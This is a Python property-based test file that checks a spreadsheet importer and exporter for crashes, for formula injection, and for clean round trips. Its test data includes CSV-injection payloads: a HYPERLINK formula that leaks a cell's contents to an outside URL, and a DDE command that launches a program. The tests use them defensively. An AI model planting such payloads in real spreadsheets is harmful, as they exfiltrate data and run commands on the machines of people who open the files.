"""Property-based tests: random cells, unicode, very long strings and formula-looking values
thrown at the importer. It never crashes with a traceback (only a WorkbookProblems or an
input error), exported spreadsheets never hold a live formula taken from the data, and
whatever it accepts comes back unchanged through a CSV and an .xlsx round trip."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rdflib.compare import isomorphic

from kgraph.errors import KgraphError
from kgraph.exchange.export import export
from kgraph.exchange.importer import import_workbook

RISKY = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = st.sampled_from([
    '=HYPERLINK("http://example.org/x?leak="&A1,"Click")', "=1+1", "+SUM(1,2)", "-2+3",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "'=already quoted", "'", "''x",
])
ANY_TEXT = st.text(max_size=40)  # any unicode, control characters included
LONG = st.text(alphabet=st.characters(codec="utf-8"), min_size=300, max_size=3000)
CELL = st.one_of(ANY_TEXT, FORMULAS, LONG, st.sampled_from(["", " ", "✓", "x", "12.5%"]))
PRINTABLE = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=60)
VISIBLE = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Z")), min_size=1,
                  max_size=60)
LONG_PRINTABLE = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")),
                         min_size=300, max_size=3000)
SPACES_INSIDE = st.sampled_from(["a\tb", "line 1\nline 2", " padded ", "x\r\ny"])
NAME = st.one_of(VISIBLE, FORMULAS, LONG_PRINTABLE, SPACES_INSIDE).filter(
    lambda t: t.strip().removeprefix("'").strip())  # an empty name is refused, rightly
TEXT = st.one_of(PRINTABLE, FORMULAS, SPACES_INSIDE, st.just(""))
TICKS = st.sampled_from(["", "✓", "x", "yes", "1", " "])
SETTINGS = settings(max_examples=50, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])


def write_folder(folder: Path, sheets: dict[str, list[list[str]]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in sheets.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows(rows)
    return folder


def plan_sheets(names: list[str], period: str, ticks: list[str], value: str,
                description: str) -> dict[str, list[list[str]]]:
    """A well-formed workbook whose free-text cells are arbitrary."""
    return {
        "plan": [["id", "label", "period"], ["p", names[0], period]],
        "priorities": [["id", "label", "plan"], ["p-1", names[1], "p"], ["p-2", names[2], "p"]],
        "strategies": [["id", "label", "listed_in", "description"],
                       ["s-1", names[3], "p", description], ["s-2", names[4], "p", ""]],
        "coverage": [["strategy", "p-1", "p-2"], ["s-1", ticks[0], ticks[1]],
                     ["s-2", ticks[2], ticks[3]]],
        "indicators": [["id", "label", "measures"], ["i", names[5], "p-1"]],
        "observations": [["indicator", "area", "period", "measure", "value", "flag", "note"],
                         ["i", "kent", period or "2024", "actual", value, "garbled", "random"]],
    }


@SETTINGS
@given(st.lists(st.lists(CELL, max_size=6), max_size=6), st.lists(CELL, max_size=6),
       st.sampled_from(["plan", "strategies", "coverage", "governance", "observations",
                        "facts", "sources", "boards"]))
def test_random_cells_never_crash_the_importer(rows: list[list[str]], header: list[str],
                                               sheet: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_folder(Path(tmp) / "wb", {sheet: [header, *rows]})
        try:
            import_workbook(folder, None, validate=False)  # SHACL is slow; tested elsewhere
        except KgraphError:
            pass  # reported as problems: fine; any other exception fails the test


def assert_no_live_formula(csv_folder: Path, xlsx: Path) -> None:
    for path in csv_folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(cell.startswith(RISKY) for cell in row), (path, row)
    book = load_workbook(xlsx)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(RISKY), (ws.title, cell.value)


@SETTINGS
@given(st.lists(NAME, min_size=6, max_size=6), TEXT, st.lists(TICKS, min_size=4, max_size=4),
       TEXT, TEXT)
@pytest.mark.slow
def test_accepted_workbooks_round_trip_and_export_no_formulas(
        names: list[str], period: str, ticks: list[str], value: str, description: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        folder = write_folder(root / "wb", plan_sheets(names, period, ticks, value, description))
        try:
            first = import_workbook(folder, None, validate=False)
        except KgraphError:
            event("refused")
            return
        event("accepted")
        exported_csv = export(first.graph, root / "out", "csv")
        exported_xlsx = export(first.graph, root / "out.xlsx", "xlsx")
        assert_no_live_formula(exported_csv, exported_xlsx)
        for path in (exported_csv, exported_xlsx):
            again = import_workbook(path, None, validate=False)
            assert isomorphic(again.graph, first.graph)


@settings(max_examples=25, deadline=None)
@given(FORMULAS, FORMULAS)
@pytest.mark.slow
def test_formula_looking_names_are_kept_as_text(label: str, alias: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        folder = write_folder(root / "wb", {"boards": [["id", "label", "aliases"],
                                                       ["b", label, alias.replace(";", ",")]]})
        try:
            result = import_workbook(folder, None, validate=False)
        except KgraphError:
            return  # e.g. a label that is only an apostrophe is empty
        out = export(result.graph, root / "g.xlsx", "xlsx")
        ws = load_workbook(out)["boards"]
        cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value]
        assert all(c.data_type == "s" for c in cells)
        assert isomorphic(import_workbook(out, None, validate=False).graph, result.graph)
